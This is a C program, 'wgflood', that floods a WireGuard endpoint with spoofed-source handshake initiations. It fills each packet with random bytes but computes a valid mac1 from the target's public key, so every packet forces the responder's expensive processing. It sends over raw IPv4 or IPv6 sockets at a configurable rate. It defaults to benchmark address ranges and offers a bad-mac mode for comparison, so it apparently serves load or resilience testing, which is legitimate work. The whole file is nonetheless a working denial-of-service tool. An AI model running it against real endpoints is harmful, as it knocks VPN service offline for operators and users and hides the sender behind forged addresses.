// SPDX-License-Identifier: BSD-3-Clause
//
// A flood of WireGuard initiations from random sources: random contents under a valid mac1, so that each
// costs the responder what it costs before the static key is known. Raw IPv4 or IPv6 packets with spoofed
// sources of a prefix; prints how many went out. --bad-mac makes mac1 wrong, for comparison; --rate 0 is as
// fast as it goes.
#include <blake2.h>

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define INITIATION_SIZE 148
#define MAC1_AT         116
#define MAC_SIZE        16
#define KEY_SIZE        32
#define BATCH           16 // packets between two looks at the clock
#define NS_PER_S        1000000000ull

struct flood {
	struct sockaddr_storage to; // its port is 0: raw sockets take none
	uint16_t port;
	uint8_t net[16]; // sources: this prefix with random bits behind its first len
	unsigned int len;
	uint8_t mac1_key[32];
	bool bad_mac;
	uint64_t state;
};

struct datagram {
	struct udphdr udp;
	uint8_t msg[INITIATION_SIZE];
} __attribute__((packed));

struct packet {
	union {
		struct {
			struct iphdr ip;
			struct datagram udp;
		} __attribute__((packed)) v4;
		struct {
			struct ip6_hdr ip;
			struct datagram udp;
		} __attribute__((packed)) v6;
	};
	size_t size;
};

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	stop = 1;
}

static void die(const char *what)
{
	fprintf(stderr, "wgflood: %s: %s\n", what, strerror(errno));
	exit(2);
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * NS_PER_S + (uint64_t)ts.tv_nsec;
}

// xorshift64*: contents only have to differ, not to be secret.
static uint64_t next_random(struct flood *f)
{
	f->state ^= f->state >> 12;
	f->state ^= f->state << 25;
	f->state ^= f->state >> 27;
	return f->state * 0x2545F4914F6CDD1Dull;
}

static uint16_t sum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t sum_words(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	return sum;
}

// WireGuard paper, 5.4.4: mac1 is keyed with the hash of the label and the responder's public key.
static void mac1_key(uint8_t key[32], const uint8_t public_key[KEY_SIZE])
{
	uint8_t in[8 + KEY_SIZE];

	memcpy(in, "mac1----", 8);
	memcpy(in + 8, public_key, KEY_SIZE);
	blake2s(key, in, NULL, 32, sizeof(in), 0);
}

static void initiation(struct flood *f, uint8_t msg[INITIATION_SIZE])
{
	for (size_t i = 0; i < MAC1_AT; i += 4) {
		uint32_t r = (uint32_t)(next_random(f) >> 32);

		memcpy(msg + i, &r, 4);
	}
	memcpy(msg, "\1\0\0\0", 4);
	blake2s(msg + MAC1_AT, msg, f->mac1_key, MAC_SIZE, MAC1_AT, sizeof(f->mac1_key));
	if (f->bad_mac)
		msg[MAC1_AT] ^= 1;
}

static void source(struct flood *f, uint8_t *addr, size_t size)
{
	for (size_t i = 0; i < size; i++) {
		unsigned int kept = f->len > i * 8 ? f->len - (unsigned int)i * 8 : 0;
		uint8_t mask = kept >= 8 ? 0 : (uint8_t)(0xff >> kept);

		addr[i] = (uint8_t)(f->net[i] | (next_random(f) >> 40 & mask));
	}
}

// With the addresses in the header before it.
static void datagram(struct flood *f, struct datagram *d, const void *addrs, size_t size)
{
	uint32_t sum;

	initiation(f, d->msg);
	d->udp.source = htons((uint16_t)(1024 + next_random(f) % 60000));
	d->udp.dest = htons(f->port);
	d->udp.len = htons(sizeof(*d));
	sum = sum_words(addrs, size, IPPROTO_UDP + sizeof(*d));
	sum = sum_words(d, sizeof(*d), sum);
	d->udp.check = htons(sum_fold(sum));
	if (d->udp.check == 0)
		d->udp.check = 0xffff;
}

static void fill(struct flood *f, struct packet *p)
{
	memset(p, 0, sizeof(*p));
	if (f->to.ss_family == AF_INET6) {
		p->size = sizeof(p->v6);
		p->v6.ip.ip6_flow = htonl(6u << 28);
		p->v6.ip.ip6_plen = htons(sizeof(p->v6.udp));
		p->v6.ip.ip6_nxt = IPPROTO_UDP;
		p->v6.ip.ip6_hlim = 64;
		p->v6.ip.ip6_dst = ((struct sockaddr_in6 *)&f->to)->sin6_addr;
		source(f, p->v6.ip.ip6_src.s6_addr, 16);
		datagram(f, &p->v6.udp, &p->v6.ip.ip6_src, 32);
		return;
	}
	p->size = sizeof(p->v4);
	p->v4.ip = (struct iphdr){
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.tot_len = htons(sizeof(p->v4)),
		.daddr = ((struct sockaddr_in *)&f->to)->sin_addr.s_addr,
	};
	source(f, (uint8_t *)&p->v4.ip.saddr, 4);
	datagram(f, &p->v4.udp, &p->v4.ip.saddr, 8);
}

static socklen_t to_size(const struct flood *f)
{
	return f->to.ss_family == AF_INET6 ? sizeof(struct sockaddr_in6) : sizeof(struct sockaddr_in);
}

// Until the time is over or SIGTERM comes.
static uint64_t run(struct flood *f, uint64_t rate, uint64_t seconds, uint64_t *ret_errors)
{
	int fd = socket(f->to.ss_family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	uint64_t start = now_ns(), sent = 0, errors = 0;
	struct packet p;

	if (fd < 0)
		die("raw socket");
	while (!stop && now_ns() - start < seconds * NS_PER_S) {
		uint64_t due = rate ? start + sent * NS_PER_S / rate : 0, now = now_ns();

		if (now < due) {
			usleep((useconds_t)((due - now) / 1000 + 1));
			continue;
		}
		for (int i = 0; i < BATCH; i++) {
			fill(f, &p);
			if (sendto(fd, &p, p.size, 0, (struct sockaddr *)&f->to, to_size(f)) < 0)
				errors++;
			else
				sent++;
		}
		if (errors > 1000000 && !sent)
			die("sendto");
	}
	close(fd);
	*ret_errors = errors;
	return sent;
}

// 44 characters of base64, as wg prints keys.
static bool key_decode(uint8_t key[KEY_SIZE], const char *text)
{
	static const char digits[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	uint32_t bits = 0;
	size_t n = 0;

	if (strlen(text) != 44 || text[43] != '=')
		return false;
	for (size_t i = 0; i < 43; i++) {
		const char *d = strchr(digits, text[i]);

		if (!d)
			return false;
		bits = bits << 6 | (uint32_t)(d - digits);
		if (i % 4 == 3) {
			key[n++] = (uint8_t)(bits >> 16);
			key[n++] = (uint8_t)(bits >> 8);
			key[n++] = (uint8_t)bits;
		}
	}
	key[n++] = (uint8_t)(bits >> 10);
	key[n++] = (uint8_t)(bits >> 2);
	return n == KEY_SIZE;
}

static void usage(void)
{
	fprintf(stderr,
		"usage: wgflood --to ADDR --port PORT --key BASE64 [--rate N] [--seconds N]\n"
		"               [--from NET/LEN] [--bad-mac]\n");
	exit(2);
}

static bool to_parse(struct flood *f, const char *text)
{
	f->to.ss_family = strchr(text, ':') ? AF_INET6 : AF_INET;
	return inet_pton(f->to.ss_family, text,
		       f->to.ss_family == AF_INET6
			       ? (void *)&((struct sockaddr_in6 *)&f->to)->sin6_addr
			       : (void *)&((struct sockaddr_in *)&f->to)->sin_addr) == 1;
}

static bool prefix_parse(struct flood *f, const char *text)
{
	char net[64];
	int max = f->to.ss_family == AF_INET6 ? 128 : 32;

	if (sscanf(text, "%63[^/]/%u", net, &f->len) != 2 || f->len < 8 || (int)f->len >= max)
		return false;
	return inet_pton(f->to.ss_family, net, f->net) == 1;
}

int main(int argc, char **argv)
{
	static const struct option longs[] = {
		{"to", 1, NULL, 't'},
		{"port", 1, NULL, 'p'},
		{"key", 1, NULL, 'k'},
		{"rate", 1, NULL, 'r'},
		{"seconds", 1, NULL, 's'},
		{"from", 1, NULL, 'f'},
		{"bad-mac", 0, NULL, 'b'},
		{NULL, 0, NULL, 0},
	};
	const char *prefix = NULL;
	struct flood f = {.port = 51820};
	uint8_t key[KEY_SIZE];
	bool have_key = false, have_to = false;
	uint64_t rate = 12000, seconds = 5, sent, errors, start;
	int opt;

	while ((opt = getopt_long(argc, argv, "", longs, NULL)) != -1) {
		if (opt == 't')
			have_to = to_parse(&f, optarg);
		else if (opt == 'p')
			f.port = (uint16_t)atoi(optarg);
		else if (opt == 'k')
			have_key = key_decode(key, optarg);
		else if (opt == 'r')
			rate = strtoull(optarg, NULL, 10);
		else if (opt == 's')
			seconds = strtoull(optarg, NULL, 10);
		else if (opt == 'f')
			prefix = optarg;
		else if (opt == 'b')
			f.bad_mac = true;
		else
			usage();
	}
	if (!prefix)
		prefix = f.to.ss_family == AF_INET6 ? "2001:db8:77::/64" : "198.18.0.0/15";
	if (!have_key || !have_to || !prefix_parse(&f, prefix) || optind != argc)
		usage();
	mac1_key(f.mac1_key, key);
	if (getrandom(&f.state, sizeof(f.state), 0) != sizeof(f.state))
		die("getrandom");
	f.state |= 1;
	signal(SIGTERM, on_signal);
	start = now_ns();
	sent = run(&f, rate, seconds, &errors);
	printf("{\"sent\":%llu,\"per_second\":%llu,\"errors\":%llu}\n", (unsigned long long)sent,
		(unsigned long long)(sent * NS_PER_S / (now_ns() - start + 1)),
		(unsigned long long)errors);
	return 0;
}
